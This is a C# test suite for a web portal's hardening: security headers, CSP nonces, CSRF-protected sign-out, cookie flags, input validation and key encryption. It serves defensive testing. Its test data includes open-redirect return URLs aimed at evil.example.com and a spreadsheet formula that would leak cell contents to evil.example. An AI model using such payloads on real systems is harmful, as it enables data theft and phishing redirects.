using System.Net;
using System.Security.Claims;
using System.Text.RegularExpressions;
using CoRM.Portal.Security;
using CoRM.Portal.Tests.Support;
using Microsoft.AspNetCore.Mvc.Testing;
using static CoRM.Infrastructure.Seeding.DemoSeeder;

namespace CoRM.Portal.Tests;

/// <summary>What a security review checks on every response and at the edges: headers, sign-out, cookies, bad input, keys, first sign-in.</summary>
public sealed partial class HardeningTests(PortalFixture portal) : IClassFixture<PortalFixture>
{
    [Theory]
    [InlineData(null, "/account/sign-in")]
    [InlineData(Personas.Admin, "/dashboard")]
    [InlineData(Personas.Admin, "/jobs")]
    [InlineData(null, "/health")]
    [InlineData(null, "/no-such-page")]
    public async Task Every_response_carries_the_security_headers(string? persona, string path)
    {
        using var client = await portal.ClientForAsync(persona);
        var response = await client.GetAsync(path);
        var csp = string.Join(' ', response.Headers.GetValues("Content-Security-Policy"));
        Assert.Contains("frame-ancestors 'none'", csp, StringComparison.Ordinal);
        Assert.Contains("object-src 'none'", csp, StringComparison.Ordinal);
        Assert.Contains("form-action 'self';", csp, StringComparison.Ordinal); // no Entra here: forms stay on the site
        Assert.DoesNotContain("'unsafe-inline' ;", csp.Split("style-src")[0] + ";", StringComparison.Ordinal);
        Assert.Matches("script-src 'self' 'nonce-[0-9A-F]{32}';", csp);
        Assert.Equal("nosniff", response.Headers.GetValues("X-Content-Type-Options").Single());
        Assert.Equal("same-origin", response.Headers.GetValues("Referrer-Policy").Single());
        Assert.Equal("DENY", response.Headers.GetValues("X-Frame-Options").Single());
    }

    [Fact]
    public async Task The_one_inline_script_the_import_map_carries_the_nonce_of_its_own_response()
    {
        using var client = await portal.ClientForAsync(null);
        var response = await client.GetAsync("/account/sign-in");
        var html = await response.Content.ReadAsStringAsync();
        var nonce = Regex.Match(string.Join(' ', response.Headers.GetValues("Content-Security-Policy")), "'nonce-([^']+)'").Groups[1].Value;
        var inlineScripts = InlineScript().Matches(html);
        Assert.NotEmpty(inlineScripts);
        Assert.All(inlineScripts, s => Assert.Contains($"nonce=\"{nonce}\"", s.Value, StringComparison.Ordinal));
        var again = await client.GetAsync("/account/sign-in");
        Assert.DoesNotContain(nonce, string.Join(' ', again.Headers.GetValues("Content-Security-Policy")), StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_job_dashboard_has_no_inline_script_the_policy_would_block()
    {
        using var client = await portal.ClientForAsync(Personas.Admin);
        var html = await client.GetStringAsync("/jobs");
        Assert.Contains("<script", html, StringComparison.Ordinal);
        Assert.Empty(InlineScript().Matches(html));
    }

    [Fact]
    public async Task Signing_out_needs_the_pages_antiforgery_token_so_another_site_cannot_sign_a_user_out()
    {
        using var client = await portal.ClientForAsync(Personas.Advancement);
        var forged = await client.PostAsync("/account/sign-out", new FormUrlEncodedContent(new Dictionary<string, string>()));
        Assert.Equal(HttpStatusCode.BadRequest, forged.StatusCode);
        Assert.Equal(HttpStatusCode.OK, (await client.GetAsync("/advancement/gifts")).StatusCode); // still signed in

        var token = PortalFactory.TokenFrom(await client.GetStringAsync("/account/sign-in"));
        Assert.NotEmpty(token);
        var real = await client.PostAsync("/account/sign-out", new FormUrlEncodedContent(new Dictionary<string, string> { ["__RequestVerificationToken"] = token }));
        Assert.Equal(HttpStatusCode.Redirect, real.StatusCode);
        Assert.Equal(HttpStatusCode.Redirect, (await client.GetAsync("/advancement/gifts")).StatusCode); // to sign-in
    }

    [Fact]
    public async Task The_sign_in_cookie_is_secure_whenever_the_request_is_https()
    {
        using var https = portal.Factory.CreateClient(new WebApplicationFactoryClientOptions { BaseAddress = new Uri("https://localhost"), AllowAutoRedirect = false });
        var signIn = await PortalFactory.PostSignInAsync(https, Personas.Admin, "/");
        var cookie = signIn.Headers.GetValues("Set-Cookie").Single(c => c.StartsWith("corm.auth=", StringComparison.Ordinal));
        Assert.Contains("secure", cookie, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("httponly", cookie, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("samesite=lax", cookie, StringComparison.OrdinalIgnoreCase);
    }

    [Theory]
    [InlineData(Personas.VolunteerCoordinator, "/volunteering/hours.csv?year=99999")]
    [InlineData(Personas.VolunteerCoordinator, "/volunteering/hours.csv?year=-1")]
    [InlineData(Personas.VolunteerCoordinator, "/volunteering/hours.csv?year=abc")]
    [InlineData(Personas.CaseSupervisor, "/cases/outcomes.csv?year=99999")]
    [InlineData(Personas.StudentSuccess, "/student-success/analytics.csv?dimension=Nonsense")]
    [InlineData(Personas.StudentSuccess, "/student-success/analytics.csv?dimension=99")]
    [InlineData(Personas.Advancement, "/advancement/campaigns/2/letters.pdf?part=-5")]
    public async Task Out_of_range_query_values_get_a_clear_400_never_a_500(string persona, string path)
    {
        using var client = await portal.ClientForAsync(persona);
        var response = await client.GetAsync(path);
        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
    }

    [Theory]
    [InlineData("/\t/evil.example.com")]
    [InlineData("/%0d%0a/evil.example.com")]
    public async Task A_return_url_with_control_characters_goes_home(string returnUrl)
    {
        using var client = portal.Factory.CreateBrowserLikeClient();
        var response = await PortalFactory.PostSignInAsync(client, Personas.Admin, Uri.UnescapeDataString(returnUrl));
        Assert.Equal(HttpStatusCode.Redirect, response.StatusCode);
        Assert.Equal("/", response.Headers.Location?.OriginalString);
    }

    [Theory]
    [InlineData("GET")]
    [InlineData("POST")]
    public async Task The_job_dashboards_stats_answer_bad_input_without_a_500(string method)
    {
        using var client = await portal.ClientForAsync(Personas.Admin);
        var response = await client.SendAsync(new HttpRequestMessage(new HttpMethod(method), "/jobs/stats")
        {
            Content = method == "POST" ? new FormUrlEncodedContent(new Dictionary<string, string> { ["metrics[]"] = "nonsense:\u0001" }) : null,
        });
        Assert.True((int)response.StatusCode < 500, $"{method} /jobs/stats answered {(int)response.StatusCode}");
        using var other = await portal.ClientForAsync(Personas.Faculty);
        Assert.NotEqual(HttpStatusCode.OK, (await other.PostAsync("/jobs/stats", new FormUrlEncodedContent(new Dictionary<string, string>()))).StatusCode);
    }

    [Fact]
    public async Task Production_refuses_to_start_when_no_certificate_protects_the_keys()
    {
        await using var production = await PortalFactory.CreateAsync("Production", new Dictionary<string, string?> { ["DataProtection:CertificatePath"] = "" });
        var failure = Assert.ThrowsAny<Exception>(() => production.CreateClient());
        Assert.Contains("DataProtection:CertificatePath", Flatten(failure), StringComparison.Ordinal);
    }

    [Fact]
    public async Task In_production_the_keys_are_written_encrypted_by_the_configured_certificate()
    {
        await using var production = await PortalFactory.CreateAsync("Production", new Dictionary<string, string?> { ["DevelopmentSignIn:Enabled"] = "true" });
        using var client = production.CreateBrowserLikeClient();
        await PortalFactory.SignInAsync(client, Personas.Admin); // signs a cookie: a key is created and stored
        await using var db = new Microsoft.Data.Sqlite.SqliteConnection($"Data Source={Path.Combine(production.Directory, "corm.db")};Mode=ReadOnly");
        await db.OpenAsync();
        await using var command = db.CreateCommand();
        command.CommandText = "SELECT Xml FROM DataProtectionKeys";
        var keys = new List<string>();
        await using (var reader = await command.ExecuteReaderAsync())
            while (await reader.ReadAsync()) keys.Add(reader.GetString(0));
        Assert.NotEmpty(keys);
        Assert.All(keys, k => Assert.Contains("encryptedSecret", k, StringComparison.Ordinal));
        Assert.All(keys, k => Assert.DoesNotContain("<masterKey", k.Split("encryptedSecret")[1], StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_csv_export_writes_a_formula_typed_into_a_field_as_text_with_no_store_and_is_itself_audited()
    {
        const string formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
        await using (var db = new Microsoft.Data.Sqlite.SqliteConnection($"Data Source={Path.Combine(portal.Factory.Directory, "corm.db")}"))
        {
            await db.OpenAsync();
            await using var insert = db.CreateCommand();
            insert.CommandText = "INSERT INTO AuditEntries (At, UserName, Action, RecordType, RecordId, Detail) VALUES ('2026-11-30 10:00:00', 'csv-test', 0, 'Test', '1', $d)";
            insert.Parameters.AddWithValue("$d", formula);
            await insert.ExecuteNonQueryAsync();
        }
        using var client = await portal.ClientForAsync(Personas.Admin);
        var response = await client.GetAsync("/admin/audit.csv?user=csv-test");
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("no-store", response.Headers.CacheControl?.ToString());
        var csv = await response.Content.ReadAsStringAsync();
        Assert.Contains("'=HYPERLINK", csv, StringComparison.Ordinal);
        Assert.DoesNotMatch("(^|,)\"?=", csv.Split('\n')[1]);
        var audited = await client.GetAsync("/admin/audit.csv?type=AuditEntry");
        Assert.Contains("1 row(s): user csv-test", await audited.Content.ReadAsStringAsync(), StringComparison.Ordinal); // the first export, audited with its filter
    }

    private static string Flatten(Exception e) => e.InnerException is null ? e.Message : e.Message + " " + Flatten(e.InnerException);

    [Fact]
    public void A_first_Entra_sign_in_is_linked_by_e_mail_only_for_a_tenant_member_with_a_verified_address()
    {
        const string issuer = "https://login.microsoftonline.com/tenant/v2.0";
        static ClaimsPrincipal Token(params (string Type, string Value)[] claims) =>
            new(new ClaimsIdentity(claims.Select(c => new Claim(c.Type, c.Value)).Append(new Claim("iss", issuer)), "test"));

        Assert.Equal("helena@northfield.edu", EntraEmail.VerifiedOf(Token(("email", "helena@northfield.edu"), ("xms_edov", "true"))));
        Assert.Equal("helena@northfield.edu", EntraEmail.VerifiedOf(Token(("preferred_username", "helena@northfield.edu"))));
        // A member whose e-mail claim is not verified: the user principal name, never the claimed address.
        Assert.Equal("h.m@northfield.edu", EntraEmail.VerifiedOf(Token(("email", "morgan.reyes@northfield.edu"), ("upn", "h.m@northfield.edu"))));
        // Guests: never by e-mail, whatever they claim.
        Assert.Null(EntraEmail.VerifiedOf(Token(("email", "morgan.reyes@northfield.edu"), ("acct", "1"), ("xms_edov", "true"))));
        Assert.Null(EntraEmail.VerifiedOf(Token(("email", "morgan.reyes@northfield.edu"), ("idp", "https://sts.windows.net/other-tenant/"))));
        Assert.Null(EntraEmail.VerifiedOf(Token(("preferred_username", "morgan.reyes_northfield.edu#EXT#@tenant.onmicrosoft.com"))));
        Assert.Null(EntraEmail.VerifiedOf(Token()));
    }

    [GeneratedRegex("<script(?![^>]*\\bsrc=)[^>]*>", RegexOptions.IgnoreCase)]
    private static partial Regex InlineScript();
}
